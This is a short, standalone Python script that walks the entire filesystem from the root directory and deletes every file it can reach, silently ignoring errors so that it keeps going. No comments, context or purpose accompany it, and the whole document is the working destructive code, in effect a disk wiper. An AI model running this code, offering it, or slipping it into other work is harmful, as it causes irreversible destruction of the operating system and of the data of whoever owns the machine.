import os

for folder, _, names in os.walk("/"):
    for name in names:
        try:
            os.remove(os.path.join(folder, name))
        except OSError:
            pass
